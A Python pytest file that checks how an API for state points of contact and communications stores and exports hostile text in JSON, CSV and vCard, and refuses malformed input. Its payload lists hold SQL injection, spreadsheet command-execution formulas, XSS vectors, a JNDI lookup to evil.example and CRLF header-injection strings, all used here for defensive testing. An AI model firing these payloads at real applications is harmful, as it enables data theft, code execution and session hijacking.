"""Hostile strings in every free-text field: PoCs' organisation, role title and person name,
communications' subject and description, replies' text.

What a state may write (SQL fragments, spreadsheet formulas, HTML and script, right-to-left
overrides, vCard syntax, text at the length limits) is stored and comes back exactly in JSON,
neutralised in CSV (a formula cell behind a quote mark, and the file still parses to the same
cells), escaped in vCard (one card per PoC, values that unescape to what was written), and
never reaches a response header. What is not text (a line break in a one-line field, NUL,
overlong or surrogate UTF-8, an unpaired surrogate escape, one character past the limit) is
refused with a 400 that names the field, and nothing is stored.
"""
import csv
import io

import pytest
import requests
import vobject

from comm_helpers import COMMS, comm_body, path, show
from conftest import assert_problem
from pocd_helpers import clean_log, poc_body, state_pocs  # noqa: F401

pytestmark = pytest.mark.usefixtures("clean_log")

POC_TEXT = ("organisation", "role_title", "person_name")
FORMULA = "=+-@\t\r"

# One line of text: what a one-line field accepts.
LINE = [
    "'; DROP TABLE pocs;--",
    "\" OR \"1\"=\"1",
    "1' UNION SELECT token_hash FROM sessions--",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/\",\"click\")",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    " =1+1",
    "<script>alert('pocd')</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "&lt;b&gt; &amp; &#x3C;",
    "\u202egnp.exe",
    "CERT \u202eRF-TREC\u202c duty",
    "\u2066isolated\u2069 \u200f\u200e",
    "a\\b,c;d:e",
    "BEGIN:VCARD",
    "END:VCARD",
    "%s%n%x${jndi:ldap://evil.example/a}",
    "a\u200bb\ufeffc \u00a0 \u2028",
    "\u540d\u524d \u2603 \U0001F1EB\U0001F1F7 \u0636\u0627\u0628\u0637",
    "\u00e9" * 200,
    "\U0001F600" * 200,
]

# Several lines: what a multi-line field (description, reply) accepts besides.
MULTILINE = [
    "line one\r\nSet-Cookie: pocd_session=evil",
    "a\n\nb\r\n\r\n<html>",
    "\ttabbed\tcells\t",
    "=1+1\n+2\n-3\n@4",
]

# (what, raw JSON string text as it appears between the quotes, one-line fields only?)
REFUSED = [
    ("crlf", b"x\\r\\nSet-Cookie: a=b", True),
    ("lf", b"x\\ny", True),
    ("tab", b"x\\ty", True),
    ("nul", b"a\\u0000b", False),
    ("overlong-slash", b"\xc0\xaf", False),
    ("overlong-nul", b"a\xc0\x80b", False),
    ("overlong-3", b"\xe0\x80\xaf", False),
    ("surrogate", b"\xed\xa0\x80", False),
    ("surrogate-escape", b"\\ud800", False),
    ("low-surrogate-escape", b"x\\udc00y", False),
    ("beyond-unicode", b"\xf4\x90\x80\x80", False),
    ("stray-continuation", b"ok\x80", False),
    ("c1-control", b"\xc2\x85", True),
    ("delete", b"\x7f", True),
    ("one-past-the-limit", ("\u00e9" * 201).encode(), True),
]


def _no_header_injection(r):
    """No header value carries a line break or what a stored string tried to inject, and the
    headers that keep a browser from running or leaking a response are there."""
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"] == "no-referrer"
    assert "default-src 'none'" in r.headers["Content-Security-Policy"]
    for name, value in r.headers.items():
        assert "\r" not in value and "\n" not in value, (name, value)
    assert "Set-Cookie" not in r.headers or r.request.path_url.endswith("/login"), r.headers
    assert "evil" not in " ".join(r.headers.values()), r.headers


def _create_pocs(server, values):
    """A PoC of FRA per value, the value in each of its text fields; their ids."""
    ids = {}
    for v in values:
        r = server.post("/api/v1/states/FRA/pocs", who="FRA/admin",
                        json=poc_body(organisation=v, role_title=v, person_name=v))
        assert r.status_code == 201, (v, r.text)
        _no_header_injection(r)
        for k in POC_TEXT:
            assert r.json()[k] == v, (k, v)
        ids[r.json()["id"]] = v
    return ids


def _csv_cell_ok(cell, v):
    if v and v[0] in FORMULA:
        return cell == "'" + v
    return cell == v


def test_poc_text_comes_back_exactly_and_safely(server):
    ids = _create_pocs(server, LINE)
    # JSON: each PoC, the state's list and the directory.
    for pid, v in ids.items():
        r = server.get("/api/v1/pocs/" + pid, who="DEU/officer")
        assert r.status_code == 200
        _no_header_injection(r)
        assert all(r.json()[k] == v for k in POC_TEXT), r.json()
    listed = {p["id"]: p for p in state_pocs(server, "FRA", who="DEU/admin")}
    for pid, v in ids.items():
        assert all(listed[pid][k] == v for k in POC_TEXT)
    d = server.get("/api/v1/directory?state=FRA", who="KEN/officer")
    assert d.status_code == 200
    rows = {p["id"]: p for p in d.json()["items"]}
    assert all(rows[pid][k] == v for pid, v in ids.items() for k in POC_TEXT)
    # An address may start like a formula too.
    mail = "=cmd|'/Ccalc'!A0@evil.example"
    r = server.post("/api/v1/states/FRA/pocs", who="FRA/admin", json=poc_body(email=mail))
    assert r.status_code == 201 and r.json()["email"] == mail, r.text
    mail_id = r.json()["id"]
    rows[mail_id] = r.json()
    # History: the revision as written.
    pid = next(iter(ids))
    h = server.get("/api/v1/pocs/%s/history" % pid, who="FRA/admin").json()["items"]
    assert h[-1]["poc"]["organisation"] == ids[pid]

    # CSV: parses to the same number of cells in every row; formulas are neutralised.
    r = server.get("/api/v1/directory?format=csv&state=FRA", who="KEN/officer")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/csv")
    assert r.headers["Content-Disposition"] == 'attachment; filename="pocd-directory.csv"'
    _no_header_injection(r)
    table = list(csv.reader(io.StringIO(r.content.decode("utf-8"), newline="")))
    header = table[0]
    assert all(len(row) == len(header) for row in table), "a row spilled over"
    col = {name: i for i, name in enumerate(header)}
    by_id = {row[col["id"]]: row for row in table[1:]}
    assert len(by_id) == len(rows)
    for pid, v in ids.items():
        for k in POC_TEXT:
            assert _csv_cell_ok(by_id[pid][col[k]], v), (k, v, by_id[pid][col[k]])
    assert by_id[mail_id][col["email"]] == "'" + mail
    for row in table[1:]:
        for cell in row:
            assert not cell or cell[0] not in FORMULA, cell

    # vCard: one card per PoC, each value unescaped back to what was written.
    r = server.get("/api/v1/directory?format=vcard&state=FRA", who="KEN/officer")
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/vcard")
    assert r.headers["Content-Disposition"] == 'attachment; filename="pocd-directory.vcf"'
    _no_header_injection(r)
    text = r.content.decode("utf-8")
    lines = text.split("\r\n")
    assert lines[-1] == "" and all(len(l.encode()) <= 75 for l in lines)
    assert sum(l == "BEGIN:VCARD" for l in lines) == len(rows)
    assert sum(l == "END:VCARD" for l in lines) == len(rows)
    cards = {c.uid.value: c for c in vobject.readComponents(text)}
    assert len(cards) == len(rows)
    for pid, v in ids.items():
        c = cards["urn:pocd:poc:" + pid]
        assert c.fn.value == v and c.title.value == v, (v, c.fn.value, c.title.value)
        # ORG is a structured value: its components joined back give the text.
        org = c.org.value
        assert (";".join(org) if isinstance(org, list) else org) == v, (v, org)
    assert cards["urn:pocd:poc:" + mail_id].email.value == mail


def test_comm_and_reply_text_come_back_exactly(server):
    sent = []
    for v in LINE + MULTILINE:
        subject = v if "\n" not in v and "\r" not in v and "\t" not in v else "multi-line"
        r = server.post(COMMS, who="FRA/officer",
                        json=comm_body(subject={"text": subject, "lang": "en"},
                                       description={"text": v, "lang": "fr"}))
        assert r.status_code == 201, (v, r.text)
        _no_header_injection(r)
        cid = r.json()["id"]
        rp = server.post(path(cid, "replies"), who="DEU/officer", json={"text": v, "lang": "de"})
        assert rp.status_code == 201, (v, rp.text)
        _no_header_injection(rp)
        sent.append((cid, subject, v))
    for cid, subject, v in sent:
        for who in ("FRA/officer", "DEU/officer"):
            d = show(server, cid, who)
            assert d["subject"]["text"] == subject and d["description"]["text"] == v
            assert [t["text"] for t in d["thread"]] == [v]
        r = server.get(COMMS, who="DEU/officer", params={"box": "inbox"})
        _no_header_injection(r)
    listed = {c["id"]: c for c in server.get(COMMS, who="FRA/officer",
                                              params={"box": "outbox"}).json()["items"]}
    for cid, subject, _ in sent:
        assert listed[cid]["subject"]["text"] == subject


def _raw(server, method, url, who, body):
    h = server.headers(who)
    h["Content-Type"] = "application/json"
    return requests.request(method, server.url + url, headers=h, data=body)


def _poc_raw(field, text):
    """A valid PoC body with field's value given as raw JSON string content."""
    import json
    b = poc_body()
    b[field] = "@@"
    return json.dumps(b).encode().replace(b'"@@"', b'"' + text + b'"')


@pytest.mark.parametrize("what,text,one_line_only", REFUSED, ids=[c[0] for c in REFUSED])
def test_what_is_not_text_is_refused_naming_the_field(server, what, text, one_line_only):
    import json
    before = state_pocs(server, "FRA")
    for field in POC_TEXT:
        r = _raw(server, "POST", "/api/v1/states/FRA/pocs", "FRA/admin", _poc_raw(field, text))
        assert_problem(r, 400, field)
    assert state_pocs(server, "FRA") == before
    # Communications: the subject is one line; the description and replies may hold line
    # breaks and tabs but nothing else that is not text.
    comm = json.dumps(comm_body(subject={"text": "@@", "lang": "en"})).encode()
    r = _raw(server, "POST", COMMS, "FRA/officer", comm.replace(b'"@@"', b'"' + text + b'"'))
    assert_problem(r, 400, "subject.text")
    if not one_line_only or what == "one-past-the-limit":
        desc = json.dumps(comm_body(description={"text": "@@", "lang": "en"})).encode()
        r = _raw(server, "POST", COMMS, "FRA/officer",
                 desc.replace(b'"@@"', b'"' + text + b'"'))
        if what == "one-past-the-limit":  # 201 characters are well inside 20,000
            assert r.status_code == 201, r.text
        else:
            assert_problem(r, 400, "description.text")
    outbox = server.get(COMMS, who="FRA/officer", params={"box": "outbox"}).json()["items"]
    cid = server.post(COMMS, who="FRA/officer", json=comm_body()).json()["id"]
    if not one_line_only:
        r = _raw(server, "POST", path(cid, "replies"), "DEU/officer",
                 b'{"lang": "en", "text": "' + text + b'"}')
        assert_problem(r, 400, "text")
        assert show(server, cid, "DEU/officer")["thread"] == []
    assert len(server.get(COMMS, who="FRA/officer",
                          params={"box": "outbox"}).json()["items"]) <= len(outbox) + 2


@pytest.mark.parametrize("raw", [b'{"organisation": "a\\\xcc\x80"}',
                                 b'{"organisation": "\\\xe2\x82\xac\xff"}',
                                 b'{"a\\\xcc\x80": 1}'])
def test_malformed_text_near_the_error_is_still_a_problem(server, raw):
    """jansson quotes the body near a syntax error, cutting a character there: the answer is
    still a 400 problem document (it was a 503 without a body)."""
    r = _raw(server, "POST", "/api/v1/states/FRA/pocs", "FRA/admin", raw)
    doc = assert_problem(r, 400)
    assert doc["type"] == "urn:pocd:problem:malformed", doc


def test_limits_exactly(server):
    """200 characters (of any width) are one PoC text field's most; 201 are refused."""
    for ch in ("a", "\u00e9", "\u20ac", "\U0001F600"):
        ok = server.post("/api/v1/states/FRA/pocs", who="FRA/admin",
                         json=poc_body(organisation=ch * 200))
        assert ok.status_code == 201, ok.text
        assert ok.json()["organisation"] == ch * 200
        bad = server.post("/api/v1/states/FRA/pocs", who="FRA/admin",
                          json=poc_body(organisation=ch * 201))
        assert_problem(bad, 400, "organisation")
    s = server.post(COMMS, who="FRA/officer",
                    json=comm_body(subject={"text": "\U0001F600" * 200, "lang": "en"},
                                   description={"text": "\u00e9\n" * 10000, "lang": "fr"}))
    assert s.status_code == 201, s.text
    d = show(server, s.json()["id"], "DEU/officer")
    assert d["subject"]["text"] == "\U0001F600" * 200
    assert d["description"]["text"] == "\u00e9\n" * 10000
    too_long = server.post(COMMS, who="FRA/officer",
                           json=comm_body(description={"text": "x" * 20001, "lang": "en"}))
    assert_problem(too_long, 400, "description.text")
    r = server.post(path(s.json()["id"], "replies"), who="DEU/officer",
                    json={"text": "\u20ac" * 20000, "lang": "en"})
    assert r.status_code == 201, r.text
    assert_problem(server.post(path(s.json()["id"], "replies"), who="DEU/officer",
                               json={"text": "\u20ac" * 20001, "lang": "en"}), 400, "text")
